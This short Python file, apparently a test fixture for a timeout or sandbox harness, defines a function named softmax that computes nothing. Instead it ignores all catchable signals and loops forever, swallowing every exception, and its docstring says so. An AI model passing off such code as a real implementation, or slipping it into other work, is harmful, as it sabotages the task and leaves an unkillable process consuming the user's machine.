"""Ignores every signal that can be ignored, and computes for ever."""

import contextlib
import signal


def softmax(z, axis=-1):
    for number in signal.valid_signals():
        with contextlib.suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)
    while True:
        with contextlib.suppress(BaseException):
            while True:
                pass
